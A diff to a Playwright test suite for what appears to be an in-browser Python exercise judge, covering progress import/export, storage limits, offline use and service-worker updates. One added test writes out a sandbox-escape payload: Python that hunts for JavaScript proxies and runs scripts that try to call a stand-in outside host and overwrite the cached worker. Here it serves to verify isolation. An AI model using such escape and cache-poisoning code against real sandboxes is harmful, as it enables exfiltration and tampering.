@@ -1,10 +1,12 @@
 """Exercises in a page: its verdicts are those of notebooks, whatever an answer does, also while offline."""
 
 import gzip
+import http.server
 import io
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 import zipfile
@@ -168,8 +170,17 @@ BAD = {
         of('f = check.__globals__["EXERCISES"]', 'raise ValueError(check.__globals__["source_of"](f))'),
         "not yet",
     ),
-    "all objects": (of("import gc", "return gc.get_objects()"), "asks for the course's own solution"),
-    "what the page lacks": (of("return torch.fft.fft(x)"), "torch.fft works in the notebook"),
+    "modules that import such": (
+        f"import asyncio, gc, timeit\n{answer('causal_mean_loop', 'mine')}",
+        "✓ passed",
+    ),
+    "all objects": (of("import gc", "return gc.get_objects()"), "not gc.get_objects"),
+    "JavaScript": (of("import js", "return js.fetch()"), "not js.fetch"),
+    "a loop of events": (
+        of("import asyncio", "asyncio.run(asyncio.sleep(0))", "return x"),
+        "not asyncio.run",
+    ),
+    "what the page lacks": (of("return torch.fft.fft(x)"), "not torch.fft"),
     "what nobody has": (of("return torch.maen(x)"), "has no attribute 'maen'"),
     "no Python": ("def mine(x)\n", "Line 1"),
     "no check": ("mine = 5\n", 'check("causal_mean_loop", my_causal_mean)'),
@@ -191,6 +202,60 @@ def test_whatever_an_answer_does_ends_in_a_sentence(judge, visit):
     expect(printed).to_contain_text("The rest is not shown.")
     assert len(printed.inner_text()) < 11_000
     assert printed.evaluate("(shown) => shown.childNodes.length") < 11_000
+
+
+REACHES = """
+import sys
+frame, places = sys._getframe(), [vars(sys.stdout), *(vars(each) for each in sys.modules.values())]
+while frame:
+    places += [frame.f_locals, frame.f_globals]
+    frame = frame.f_back
+found = {id(each): each for place in places for each in list(place.values())}
+for each in found.values():
+    if type(each).__name__ == "JsProxy":
+        for script in SCRIPTS:
+            try:
+                each.constructor(script)()
+            except Exception:
+                pass
+raise ValueError("tried")
+"""
+WAYS_OUT = {
+    "fetch": "fetch(OTHER + 'fetch', { mode: 'no-cors' })",
+    "import": "import(OTHER + 'import')",
+    "a text as code": "setTimeout(`fetch(OTHER + 'text')`)",
+    "a request": "((to) => { to.open('GET', OTHER + 'request'); to.send(); })(new XMLHttpRequest())",
+    "a socket": "new WebSocket(OTHER.replace('http', 'ws') + 'socket')",
+    "what is kept": "caches.open('attention').then((kept) => kept.put(WORKER, new Response('worse')))",
+}
+
+
+def test_no_answer_reaches_another_host_or_what_the_browser_keeps(judge, chromium, address, serve, tmp_path):
+    """By what Python holds of JavaScript; and by JavaScript in the worker, if it were to get that far."""
+    asked = []
+
+    class Ear(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *_):
+            asked.append(self.path)
+
+    other, good = f"{serve(tmp_path, Ear)}/", answer("causal_mean_loop", "mine")
+    worker = f"{address}judge/{judge.name}/worker.js"
+    with chromium.new_context() as context:
+        page = context.new_page()
+        page.goto(f"{address}01_bag_of_words/")
+        assert "✓ passed" in check(page, "causal_mean_loop", good)
+        page.evaluate(KEPT, worker)
+        names = f"[self.OTHER, self.WORKER] = {json.dumps([other, worker])};"
+        scripts = [f"{names} {way};" for way in WAYS_OUT.values()]
+        said = check(page, "causal_mean_loop", f"SCRIPTS = {scripts!r}\n{REACHES}")
+        assert "ValueError: tried" in said
+        for script in scripts:
+            page.workers[0].evaluate(f"() => {{ try {{ {script} }} catch {{}} }}")
+        page.wait_for_timeout(500)  # for what was asked to arrive
+        assert asked == []
+        kept = page.evaluate("async (name) => (await caches.match(name)).text()", worker)
+        assert kept == (judge / "worker.js").read_text(encoding="utf-8")
+        assert "✓ passed" in check(page, "causal_mean_loop", good)
 
 
 CHANGES = {  # what an answer changes in the Python that judges it
@@ -367,16 +432,92 @@ def test_a_file_adds_to_what_is_kept_and_takes_nothing_away(judge, visit, tmp_pa
     expect(page.locator("#solved")).to_have_text(re.compile("^1 of"))
 
 
+KEPT = """async (name) => {
+    const kept = await caches.open("attention");
+    while (!(await kept.match(name))) await new Promise((ends) => setTimeout(ends, 100));
+}"""
+
+
+MERGED = [  # own answers, the file's, and all
+    (["A"], ["B"], ["A", "B"]),
+    (["A"], ["B", "C"], ["A", "B", "C"]),
+    (["A", "B"], ["B"], ["A", "B"]),
+    ([], ["B", "A"], ["B", "A"]),
+]
+
+
+@pytest.mark.parametrize(("own", "others", "merged"), MERGED)
+def test_answers_of_a_file_come_after_one_s_own_and_the_first_stays(visit, tmp_path, own, others, merged):
+    page = visit("practice/")
+    page.evaluate(
+        "(own) => { for (const key in own) localStorage.setItem(key, JSON.stringify(own[key])); }",
+        {"attention-question mean_at_one": own, "attention-first mean_at_one": ["right"]} if own else {},
+    )
+    file = tmp_path / "progress.json"
+    file.write_text(of_part(questions={"mean_at_one": {"answers": others, "right_at_first_try": False}}))
+    page.locator("#import").set_input_files(file)
+    said = "here already" if merged == own else "1 question."
+    expect(page.locator("#taken")).to_contain_text(said)
+    with page.expect_download() as waiting:
+        page.locator("#export").click()
+    waiting.value.save_as(file)
+    found = read(file).questions["mean_at_one"]
+    assert (found.answers, found.right_at_first_try) == (merged, bool(own))
+
+
+FILL = """() => {
+    let text = "x".repeat(2 ** 20);
+    for (let at = 0; text; at += 1)
+        try { localStorage.setItem(`other${at}`, text); } catch { text = text.slice(text.length / 2 + 1); }
+}"""
+
+
+def test_where_the_browser_has_no_room_this_is_said_once_and_the_file_has_all(judge, visit, tmp_path):
+    page = visit("01_bag_of_words/")
+    note = page.locator("#refused")
+    expect(note).not_to_be_visible()
+    page.evaluate(FILL)
+    editor = cell_of(page, "causal_mean_loop").get_by_role("textbox")
+    editor.fill("# an hour of work\n" * 9)
+    expect(note).to_be_in_viewport()
+    page.locator("[data-question=mean_at_one]").get_by_role("button", name="Skip").click()
+    with page.expect_download() as waiting:
+        note.get_by_role("button", name="Save progress.json").click()
+    waiting.value.save_as(tmp_path / "progress.json")
+    assert read(tmp_path / "progress.json").questions["mean_at_one"].answers == ["Skip"]
+    note.get_by_role("button", name="Close").click()
+    editor.fill("# and another\n" * 9)
+    expect(note).not_to_be_visible()
+
+
+def test_a_new_edition_comes_as_a_whole(judge, site, chromium, serve, tmp_path):
+    """A browser keeps a file that has long been the same without asking for it again."""
+    shutil.copytree(site, tmp_path / "attention")
+    script = tmp_path / "attention/static/page.js"
+    old = script.stat().st_mtime - 10**8
+    os.utime(script, (old, old))
+    register = """async () => {
+        await navigator.serviceWorker.register("../sw.js");
+        const { active } = await navigator.serviceWorker.ready;
+        if (!navigator.serviceWorker.controller)
+            await new Promise((ends) => navigator.serviceWorker.addEventListener("controllerchange", ends));
+    }"""
+    context = chromium.new_context()
+    page = context.new_page()
+    page.goto(f"{serve(tmp_path)}/attention/practice/")
+    page.evaluate(register)
+    script.write_text(script.read_text() + "\ndocument.body.dataset.edition = 'new';\n")
+    page.goto(page.url)
+    expect(page.locator("body")).to_have_attribute("data-edition", "new")
+    context.close()
+
+
 def test_after_one_check_it_works_without_a_network(judge, visit):
     page, good = visit("02_tril_matmul/"), answer("shift_matrix", "mine")
     check(page, "shift_matrix", good)
-    ready = """async (name) => {
-        const kept = await caches.open("attention");
-        while (!(await kept.match(name))) await new Promise((ends) => setTimeout(ends, 100));
-    }"""
     for name in [path.name for path in judge.iterdir()]:
-        page.evaluate(ready, f"../judge/{judge.name}/{name}")
-    page.evaluate(ready, "./")
+        page.evaluate(KEPT, f"../judge/{judge.name}/{name}")
+    page.evaluate(KEPT, "./")
     page.context.set_offline(True)
     page.reload()
     with page.expect_worker():  # Python starts when a reader begins to write, once the browser has it
